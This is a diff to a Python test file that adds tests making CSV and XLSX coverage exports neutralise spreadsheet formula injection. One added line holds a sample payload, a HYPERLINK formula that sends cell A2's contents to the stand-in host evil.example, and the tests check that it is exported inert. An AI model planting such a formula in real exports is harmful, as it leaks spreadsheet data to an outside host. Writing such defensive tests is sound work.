@@ -13,6 +13,7 @@ import pytest
 from openpyxl import load_workbook
 from shapely.geometry import shape
 
+from core.extensions import db
 from outreach.visits.services import LOCAL, store_visits
 from tests.helpers import auth, make_user, sql
 
@@ -64,7 +65,8 @@ def visits(db_session):
 def json_rows(client, query: str, headers=None) -> list[dict]:
     response = client.get(f"{COVERAGE}?{query}", headers=headers)
     assert response.status_code == 200, response.get_json()
-    return response.get_json()
+    # The figures; a cell's responsible member (JSON only, for the lagging list) is not exported.
+    return [{k: v for k, v in row.items() if k != "responsible"} for row in response.get_json()]
 
 
 def period(query: str) -> tuple[str, str]:
@@ -257,3 +259,32 @@ def test_exports_are_refused_to_grid_workers_and_anonymous_callers(client, anony
 
 def test_an_unknown_format_is_rejected(client):
     assert client.get(f"{COVERAGE}?f=pdf").status_code == 422
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"详情")'
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_every_formula_start_is_made_inert(start):
+    from core.exports import inert
+
+    assert inert(start + "1+1") == "'" + start + "1+1"
+    assert inert("张三") == "张三" and inert(-3) == -3 and inert(None) is None
+
+
+def test_a_formula_in_a_cell_name_comes_out_inert_in_csv_and_xlsx(client):
+    village = "610981001001"
+    cell = sql("select min(code) from grids where tier = 3 and village_code = :v", v=village).scalar()
+    sql("update grids set name = :n where code = :c", n=FORMULA, c=cell)
+    db.session.commit()  # into the test's outer transaction, so every request sees it
+    csv_body = client.get(f"{COVERAGE}?region={village}&by=grid&f=csv")
+    assert csv_body.status_code == 200
+    rows = list(csv.reader(io.StringIO(csv_body.get_data().decode("utf-8-sig"))))
+    [named] = [row for row in rows if row[0] == cell]
+    assert named[1] == "'" + FORMULA
+    assert not any(value.startswith(("=", "+", "@")) for row in rows for value in row)
+    xlsx_body = client.get(f"{COVERAGE}?region={village}&by=grid&f=xlsx")
+    sheet = load_workbook(io.BytesIO(xlsx_body.get_data())).active
+    [named_row] = [row for row in sheet.iter_rows(min_row=2) if row[0].value == cell]
+    assert named_row[1].value == "'" + FORMULA and named_row[1].data_type == "s"
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
